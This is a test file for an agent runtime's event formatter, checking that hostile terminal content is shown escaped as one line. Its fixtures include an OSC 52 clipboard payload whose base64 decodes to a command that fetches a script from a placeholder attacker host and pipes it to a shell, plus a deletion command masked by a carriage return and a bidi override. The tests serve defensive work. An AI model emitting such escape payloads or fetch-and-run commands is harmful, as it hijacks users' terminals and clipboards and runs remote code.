/**
 * `formatEvent` prints every event as one terminal-safe line, whatever a model, a server or a file
 * put into its text, names or status: no raw control byte, no forged second line.
 */
import { describe, expect, it } from 'vitest';

import { formatEvent } from '../../../src/runtime/events/format-event.js';
import type { SessionEvent, SessionEventType } from '../../../src/runtime/events/session-event.js';
import {
  FORGED_LINE,
  HOSTILE,
  OSC_CLIPBOARD,
  OSC_TITLE,
  RAW_CONTROL,
} from '../../support/hostile-text.js';

const TYPES: readonly SessionEventType[] = [
  'process.started',
  'process.ended',
  'turn.started',
  'turn.completed',
  'message',
  'tool_call.started',
  'tool_call.completed',
  'tool_call.refused',
  'command',
  'file_change',
  'approval.requested',
  'approval.answered',
  'approval.refused',
  'server.failed',
  'session.ending',
  'listener.flood',
  'budget.refused',
];

/** An event of `type` with hostile text in every string field a model, server or file can reach. */
function hostile(type: SessionEventType): SessionEvent {
  return {
    time: `2026-12-01T12:00:01.000Z`,
    session: 's1',
    process: `worker-1${OSC_TITLE}`,
    role: `lead${FORGED_LINE}`,
    type,
    status: `completed${OSC_CLIPBOARD}`,
    server: `srv\r`,
    tool: `scrape${FORGED_LINE}`,
    text: HOSTILE,
    approval: `a1\u202e`,
    kind: type === 'approval.requested' ? 'command' : `mcp_tool_call\u001b[31m`,
    decision: 'approve',
    by: `root${FORGED_LINE}`,
    how: `cli\u0007`,
    exit_code: 1,
  };
}

describe('formatEvent', () => {
  it.each(TYPES)('prints a hostile %s event as one line with no raw control byte', (type) => {
    const line = formatEvent(hostile(type));
    expect(line.split('\n')).toHaveLength(1);
    expect(line).not.toMatch(RAW_CONTROL);
    expect(line).toMatch(/^12:00:01 worker-1\\x1b\]0;title\\x07 \(lead\\n12:00:02 root/);
  });

  it('shows a model message with OSC 52, OSC 0 and a forged log line as visible escapes', () => {
    const line = formatEvent({
      time: '2026-12-01T12:00:01.000Z',
      session: 's1',
      process: 'root',
      role: 'lead',
      type: 'message',
      text: `done${OSC_CLIPBOARD}${OSC_TITLE}${FORGED_LINE}`,
    });
    expect(line).toBe(
      '12:00:01 root (lead) message: done\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkIHwgc2g=\\x07' +
        '\\x1b]0;title\\x07\\n12:00:02 root (lead) approval a9 approved by root (cli)',
    );
  });

  it('tells a refused request that named no tool by its method, not as a tool call', () => {
    const base = { time: '2026-12-01T12:00:01.000Z', session: 's1', process: 'root', role: 'lead' };
    const refused = (more: Partial<SessionEvent>): string =>
      formatEvent({ ...base, type: 'tool_call.refused', status: 'blocked', ...more });
    expect(
      refused({ server: 'web-http', tool: '', method: 'http:session-gone', text: 'server-gone' }),
    ).toBe('12:00:01 root (lead) request http:session-gone to web-http refused: server-gone');
    expect(refused({ server: 'web-http', tool: 'search', text: 'tool-not-granted' })).toBe(
      '12:00:01 root (lead) tool call web-http.search refused: tool-not-granted',
    );
    expect(refused({ server: '', tool: '', method: 'http:no-token', text: 'not-authorized' })).toBe(
      '12:00:01 root (lead) request http:no-token to the gateway refused: not-authorized',
    );
  });

  it('shows a command with CR and a bidi override escaped', () => {
    const line = formatEvent({
      time: '2026-12-01T12:00:01.000Z',
      session: 's1',
      process: 'root',
      role: 'lead',
      type: 'command',
      text: 'rm -rf /tmp/x\rls \u202eexe.txt',
      exit_code: 0,
    });
    expect(line).toBe('12:00:01 root (lead) command `rm -rf /tmp/x\\rls \\u202eexe.txt` exited 0');
  });

  it('leaves printable text as it is', () => {
    const line = formatEvent({
      time: '2026-12-01T12:00:01.000Z',
      session: 's1',
      process: 'root',
      role: 'lead',
      type: 'message',
      text: 'café 中文 🎉 C:\\path "q"',
    });
    expect(line).toBe('12:00:01 root (lead) message: café 中文 🎉 C:\\path "q"');
  });
});
